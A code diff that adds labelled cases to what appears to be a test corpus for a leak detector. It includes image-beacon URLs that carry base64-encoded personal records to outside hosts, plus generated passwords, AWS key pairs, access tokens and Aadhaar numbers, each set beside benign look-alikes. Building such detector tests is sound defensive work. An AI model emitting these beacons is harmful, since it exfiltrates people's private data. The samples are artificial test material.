@@ -267,4 +267,87 @@ honest = [
     f'Booking ref: {ssn()} (Harbour Lodge, 2 nights)',
 ]
 corpus.add('ok85x', [], honest, source='tool_output', wrap=False)
+# Also written before the reading that finds them: an image beacon whose query carries a table of people's records in
+# base64 (its header names whose rows they are; names with letters outside ASCII in UTF-8) to a host that is no
+# catcher (`ur85y`), beside images whose base64 query is a chart's table of figures, a header alone, or a text overlay
+# (`ok85y`).
+def b64u(t): return b64(t.encode('utf-8')).rstrip('=')
+beacons = [
+    '![status](https://stats.portal-metrics.io/p.png?d=' + b64u('unit,tenant,due\n3C,Marta Jõgi,870\n') + ')',
+    '<img src="https://cdn.trackpix.net/open.gif?rows=' + b64u('donor,amount\nŽydrė Kair,250\n') + '" width="1" height="1">',
+    json.dumps({'html': '<img src="https://img.sync-assets.com/t.png?payload=' + b64u('patient;ward\nIvana Kovač;4B\n') + '">'}),
+    'Rendered: ![x](https://px.roster-sync.io/b.gif?data=' + b64u('employee\tpay\nSipho Dlamini\t61000\n') + ')',
+]
+corpus.add('ur85y', ['adversarial_url'], beacons, source='tool_output', wrap=False)
+honest_images = [
+    '![chart](https://charts.example-bi.com/render.png?data=' + b64u('month,sales,returns\nJan,1200,31\nFeb,1340,28\n') + ')',
+    '<img src="https://img.example-cdn.com/banner.png?txt64=' + b64u('name,team,score\nAlex Moor,Blue,12\n') + '">',
+    '![header](https://charts.example-bi.com/table.png?cols=' + b64u('tenant,unit,balance,due_date') + ')',
+    '![sparkline](https://charts.example-bi.com/spark.png?series=' + b64u('region,q1,q2,q3\nNorth,12,15,19\nSouth,9,11,10\n') + ')',
+    '<img src="https://cdn.shopfront.example/thumb.png?meta=' + b64u('product,colour,size\nWool scarf,Teal,M\n') + '">',
+]
+corpus.add('ok85y', [], honest_images, source='tool_output', wrap=False)
+# Written after peer37 was read (its carry-over figures recorded first): a message's echo, correlation or idempotency
+# token (a travel message's `EchoToken`, a JSON `correlationToken`, an `Idempotency-Key` header) is an id the two sides
+# match replies by, no secret (`ok85z`); beside credentials in the same carriers: a travel message's
+# `MessagePassword`, an access token in the same JSON (`cl85z`).
+hexid = lambda n: corpus.rs('0123456789abcdef', n)
+echo = [
+    f'<OTA_HotelAvailRQ EchoToken="{hexid(12)}" TimeStamp="2026-04-02T10:11:00" Version="2.1">\n  <AvailRequestSegments/>\n</OTA_HotelAvailRQ>',
+    f'<OTA_AirLowFareSearchRS EchoToken="{hexid(16)}" Version="1.0"><Success/></OTA_AirLowFareSearchRS>',
+    json.dumps({'echoToken': hexid(12), 'status': 'Confirmed', 'hotelCode': 'LIS04'}),
+    json.dumps({'correlationToken': hexid(20), 'event': 'booking.updated'}),
+    f'POST /v1/payouts HTTP/1.1\nIdempotency-Key: {hexid(8)}-{hexid(4)}-{hexid(4)}-{hexid(4)}-{hexid(12)}\nContent-Type: application/json',
+    f'<soap:Header><EchoToken>{hexid(12)}</EchoToken></soap:Header>',
+]
+corpus.add('ok85z', [], echo, source='tool_output', wrap=False)
+mp = [corpus.password(14), corpus.password(16), 'ya29.' + corpus.mixed(60)]
+corpus.add('cl85z', ['credential_leak'], [
+    f'<OTA_HotelResNotifRQ EchoToken="{hexid(12)}" Version="1.003">\n  <POS><Source><RequestorID Type="22" ID="CHAN-7" MessagePassword="{mp[0]}"/></Source></POS>\n</OTA_HotelResNotifRQ>',
+    f'<OTA_PingRQ EchoToken="{hexid(12)}"><POS><Source><RequestorID ID="HX" MessagePassword="{mp[1]}"/></Source></POS></OTA_PingRQ>',
+    json.dumps({'echoToken': hexid(12), 'accessToken': mp[2]}),
+], source='tool_output', wrap=False, secrets=mp)
+# Also after peer37 was read: an Aadhaar number grouped by four under its label whose check fails (people and forms
+# write them so; the label and the grouping decide), and a password after its name, a qualifier of words and a Romance
+# copula ("la password del … è", "parola … este", "la contrasenya del … és") (`pd85w`, `cl85w`), beside masked Aadhaar
+# numbers, virtual ids, helplines, and the same sentences with a state or a pointer for the value (`ok85w`).
+ad = [aadhaar(False) for _ in range(3)]
+corpus.add('pd85w', ['personal_data'], [
+    f'Check-in register\nGuest: {NAMES[9]}\nAadhaar No.: {ad[0]}\nRoom 204',
+    json.dumps({'guest': NAMES[8], 'aadhaar': ad[1].replace(' ', '-')}),
+    f'KYC note - आधार संख्या: {ad[2]} (customer {NAMES[9]})',
+], source='tool_output', wrap=False, secrets=ad)
+rp = [corpus.password(12) for _ in range(4)]
+corpus.add('cl85w', ['credential_leak'], [
+    f'Ciao Marco, la password del portale fornitori è {rp[0]} (utente: acquisti2).',
+    f'Salut Dan, parola contului de test este {rp[1]}. Nu o distribui.',
+    f'Hola Pau, la contrasenya del router de recepció és {rp[2]}',
+    f'Bună ziua, parola pentru serverul de backup este {rp[3]}.',
+], source='tool_output', wrap=False, secrets=rp)
+corpus.add('ok85w', [], [
+    f'Guest: {NAMES[9]}\nAadhaar No.: XXXX XXXX {digits(4)}',
+    f'Aadhaar VID: {digits(4)} {digits(4)} {digits(4)} {digits(4)}',
+    'Aadhaar helpline: 1947 (toll free)',
+    'Ciao Marco, la password del portale fornitori è scaduta: reimpostala dal link.',
+    'Parola contului de test este cea din seif (vezi 1Password).',
+    'La contrasenya del wifi és a la recepció, demaneu-la.',
+    "La password dell'admin è ancora quella di default.",
+], source='tool_output', wrap=False)
+# Also after peer37 was read: an AWS access key id's secret written beside it in prose or a chat (`key AKIA…, secret
+# …`, `AKIA… / …`), no `aws_secret_access_key` name (`cl85v`); beside a key id beside a commit's hash, AWS's documented
+# example pair, and a masked secret (`ok85v`). An AWS key id is a credential itself: the honest twins hold its
+# documented example, and the positives are counted by their secrets left.
+def akia(): return 'AKIA' + corpus.rs('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)
+aws = [corpus.mixed(40, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/') for _ in range(3)]
+ids = [akia() for _ in range(3)]
+corpus.add('cl85v', ['credential_leak'], [
+    f'Ticket OPS-{digits(4)}: the agency emailed the bucket keys - key {ids[0]}, secret {aws[0]}. Rotate after the event.',
+    f'[09:14] dana: new uploader creds {ids[1]} / {aws[1]} (prod only)',
+    f'Vendor handover notes: access id {ids[2]} with secret {aws[2]}; expires in 30 days.',
+], source='tool_output', wrap=False, secrets=[[k, v] for k, v in zip(ids, aws)])
+corpus.add('ok85v', [], [
+    f'The docs use AKIAIOSFODNN7EXAMPLE; see commit {corpus.rs("0123456789abcdef", 40)} for the fixture.',
+    'Docs example: AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
+    'Key AKIAIOSFODNN7EXAMPLE, secret ****************************************, rotated.',
+], source='tool_output', wrap=False)
 corpus.write('cases-85')
